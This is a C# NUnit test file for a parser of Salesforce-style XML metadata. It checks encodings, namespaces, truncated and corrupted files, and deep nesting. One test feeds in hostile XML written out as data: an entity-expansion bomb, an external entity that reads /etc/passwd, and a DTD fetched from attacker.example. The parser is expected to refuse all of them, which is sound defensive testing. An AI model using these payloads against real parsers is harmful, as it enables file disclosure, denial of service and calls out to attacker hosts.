using System.Diagnostics;
using System.Text;
using NUnit.Framework;
using Shouldly;

namespace ApexSovereignty.Metadata.Tests;

public class XmlTests
{
    private const string Path = "objects/Loan__c/fields/Rate__c.field-meta.xml";

    private static ProjectModel Load(string path, byte[] content)
    {
        var files = new InMemoryFileSystem().Add(path, content).Add("labels/Good.labels-meta.xml", Given.Xml("CustomLabels", "<labels><fullName>Good</fullName><value>v</value></labels>"));
        return ProjectModelLoader.Load(ProjectLocator.Locate(files).Projects.Single(), files);
    }

    private static ProjectModel Load(string content) => Load(Path, Encoding.UTF8.GetBytes(content));

    [TestCase("utf-8", true)]
    [TestCase("utf-16", true)]
    [TestCase("utf-16BE", true)]
    [TestCase("utf-16", false)]
    [TestCase("utf-16BE", false)]
    [TestCase("utf-32", true)]
    public void Encodings_are_told_from_the_bytes(string name, bool hasMark)
    {
        var encoding = Encoding.GetEncoding(name);
        var text = """<?xml version="1.0" encoding="UTF-16"?><CustomField><label>Zinssätze €</label></CustomField>""";
        byte[] bytes = [.. hasMark ? encoding.GetPreamble() : [], .. encoding.GetBytes(text)];

        var model = Load(Path, bytes);

        model.Diagnostics.ShouldBeEmpty();
        model.FindField("Loan__c", "Rate__c")!.Label.ShouldBe("Zinssätze €");
    }

    [Test]
    public void A_declared_latin1_is_read_as_such()
    {
        var bytes = Encoding.Latin1.GetBytes("""<?xml version="1.0" encoding="ISO-8859-1"?><CustomField><label>Zinssätze</label></CustomField>""");

        Load(Path, bytes).FindField("Loan__c", "Rate__c")!.Label.ShouldBe("Zinssätze");
    }

    [Test]
    public void Namespace_prefixes_do_not_matter()
    {
        var model = Load("""
            <m:CustomField xmlns:m="urn:other"><m:type>Text</m:type><m:complianceGroup><![CDATA[PII]]>;GDPR</m:complianceGroup></m:CustomField>
            """);

        model.FindField("Loan__c", "Rate__c")!.Type.ShouldBe(FieldType.Text);
        model.FindField("Loan__c", "Rate__c")!.ComplianceGroups.ShouldBe(["PII", "GDPR"]);
    }

    [Test]
    public void An_undeclared_xsi_prefix_and_another_prefix_for_it_are_read()
    {
        var model = Given.Model(
            ("customMetadata/T.A.md-meta.xml", """<CustomMetadata><values><field>F__c</field><value xsi:type="xsd:string">a</value></values></CustomMetadata>"""),
            ("customMetadata/T.B.md-meta.xml", """
                <CustomMetadata xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><values><field>F__c</field><value i:type="s:boolean">b</value></values></CustomMetadata>
                """));

        model.Diagnostics.ShouldBeEmpty();
        model.CustomMetadataRecordsOf("T__mdt").Select(record => record.FindValue("F__c")!).Select(value => (value.Value, value.TypeText))
            .ShouldBe([("a", "string"), ("b", "boolean")]);
    }

    [TestCase("<!DOCTYPE lolz [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>\n<CustomField><label>&c;</label></CustomField>")]
    [TestCase("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<CustomField><label>&e;</label></CustomField>")]
    [TestCase("<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">\n<CustomField><label>x</label></CustomField>")]
    public void Document_types_are_refused(string content)
    {
        var model = Load(content);

        model.Objects.ShouldBeEmpty();
        var diagnostic = model.Diagnostics.Single();
        diagnostic.Kind.ShouldBe(MetadataDiagnosticKind.InvalidXml);
        (diagnostic.Location.Path, diagnostic.Location.Line).ShouldBe((Path, 1));
        model.FindLabel("Good").ShouldNotBeNull();
    }

    [Test]
    public void An_unknown_entity_is_a_fault_with_its_place()
    {
        var diagnostic = Load("<CustomField>\n  <label>a &nbsp; b</label>\n</CustomField>").Diagnostics.Single();

        (diagnostic.Kind, diagnostic.Location.Line, diagnostic.Location.Column).ShouldBe((MetadataDiagnosticKind.InvalidXml, 2, 13));
        diagnostic.Message.ShouldNotContain("Line");
        diagnostic.IsIncomplete.ShouldBeTrue();
    }

    [Test]
    [CancelAfter(20000)]
    public void Great_depth_does_no_harm()
    {
        const int Depth = 200_000;
        var content = "<CustomField><type>Text</type><valueSet>" + string.Concat(Enumerable.Repeat("<a>", Depth)) + string.Concat(Enumerable.Repeat("</a>", Depth)) + "</valueSet><label>After</label></CustomField>";
        var labels = "<CustomLabels><labels><fullName>L</fullName><value>v</value>" + string.Concat(Enumerable.Repeat("<a>", Depth)) + string.Concat(Enumerable.Repeat("</a>", Depth)) + "</labels></CustomLabels>";

        Load(content).FindField("Loan__c", "Rate__c")!.Label.ShouldBe("After");
        Load("labels/Deep.labels-meta.xml", Encoding.UTF8.GetBytes(labels)).FindLabel("L")!.Value.ShouldBe("v");
    }

    [Test]
    [CancelAfter(20000)]
    public void Text_in_many_pieces_takes_linear_time()
    {
        var value = string.Concat(Enumerable.Repeat("a<!---->", 300_000));
        var watch = Stopwatch.StartNew();

        var model = Load("labels/L.labels-meta.xml", Encoding.UTF8.GetBytes($"<CustomLabels><labels><fullName>L</fullName><value>{value}</value></labels></CustomLabels>"));

        model.FindLabel("L")!.Value.Length.ShouldBe(300_000);
        watch.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(5));
    }

    [Test]
    public void Of_a_truncated_file_what_stands_before_the_end_is_kept()
    {
        var model = Given.Model(
            ("labels/L.labels-meta.xml", "<CustomLabels>\n<labels><fullName>A</fullName><value>a</value></labels>\n<labels><fullName>B</fullName><val"),
            Given.Field("X__c", "Y__c", "<type>Text</type>") with { Content = "<CustomField><complianceGroup>PII</complianceGroup><type>Te" });

        model.Labels.Select(label => label.FullName).ShouldBe(["A"]);
        model.FindField("X__c", "Y__c")!.ComplianceGroups.ShouldBe(["PII"]);
        model.Diagnostics.Select(diagnostic => diagnostic.Kind).ShouldBe([MetadataDiagnosticKind.InvalidXml, MetadataDiagnosticKind.InvalidXml]);
        model.Diagnostics[1].Location.Line.ShouldBe(3);
    }

    [Test]
    public void Another_root_is_reported_and_left_out()
    {
        var model = Load("<?xml version=\"1.0\"?>\n  <CustomObject><label>x</label></CustomObject>");

        model.Objects.ShouldBeEmpty();
        model.Diagnostics.Single().Kind.ShouldBe(MetadataDiagnosticKind.UnexpectedRoot);
        model.Diagnostics.Single().Location.ShouldBe(new MetadataLocation(Path, 2, 3));
        model.Diagnostics.Single().Message.ShouldBe("Expected the element CustomField, found CustomObject.");
    }

    [TestCase("")]
    [TestCase("   ")]
    [TestCase("not xml at all")]
    [TestCase("<")]
    [TestCase("<CustomField")]
    [TestCase("\0\0\0\0")]
    [TestCase("<?xml version=\"1.0\"?>")]
    [TestCase("<a:CustomField/>")]
    public void Junk_gives_one_diagnostic_and_the_rest_is_read(string content)
    {
        var model = Load(content);

        model.Diagnostics.Length.ShouldBe(1);
        model.FindLabel("Good").ShouldNotBeNull();
    }

    [Test]
    public void Random_damage_never_throws()
    {
        var good = Encoding.UTF8.GetBytes(Given.Field("Loan__c", "Rate__c", "<type>Text</type><label>a &amp; b</label><!-- c --><x y='z'/>").Content);
        var random = new Random(20240607);
        for (var round = 0; round < 2000; round++)
        {
            var bytes = (byte[])good.Clone();
            for (var i = random.Next(1, 5); i > 0; i--)
                bytes[random.Next(bytes.Length)] = (byte)random.Next(256);

            Load(Path, bytes[..random.Next(1, bytes.Length)]).FindLabel("Good").ShouldNotBeNull();
        }
    }

    [Test]
    public void An_unreadable_file_is_reported()
    {
        var files = Given.Files(("l/A.labels-meta.xml", ""), Given.Field("X__c", "Y__c", "<type>Text</type>")).Break("l/A.labels-meta.xml");

        var model = ProjectModelLoader.Load(ProjectLocator.Locate(files).Projects.Single(), files);

        model.Diagnostics.Select(diagnostic => (diagnostic.Kind, diagnostic.Location.Path)).ShouldBe([(MetadataDiagnosticKind.Unreadable, "l/A.labels-meta.xml")]);
        model.FindField("X__c", "Y__c").ShouldNotBeNull();
    }
}
